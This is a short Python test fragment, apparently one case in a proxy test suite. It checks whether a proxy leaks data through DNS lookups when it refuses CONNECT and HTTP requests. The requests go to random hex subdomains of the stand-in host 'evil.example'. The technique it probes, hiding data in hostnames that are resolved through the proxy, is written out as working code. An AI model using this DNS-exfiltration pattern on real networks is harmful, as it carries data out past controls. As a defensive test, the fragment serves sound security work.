# Row 18 for another proxy: whether it carries data out as names that it looks up and then refuses. Argument: JSON {"suffix": random,
# "target": ...}. The world's name server tells.
told = json.loads(sys.argv[1])
suffix = told["suffix"]
seed = random.Random(suffix)
for number in range(40):
    for how in ("connect", "uri"):
        mark = f"{how}{number}-{suffix}.evil.example"
        name = f"{seed.randbytes(20).hex()}.{mark}"
        answer = connect(f"{name}:443") if how == "connect" else plain(f"GET http://{name}/ok HTTP/1.1\r\nHost: {name}\r\n\r\n", 3128)
        attack(18, f"data in a name, by {how}", denied(answer), short(answer), mark)
twin(18, "the allowed name is looked up", status(get("web.example")) == 200)
finish()
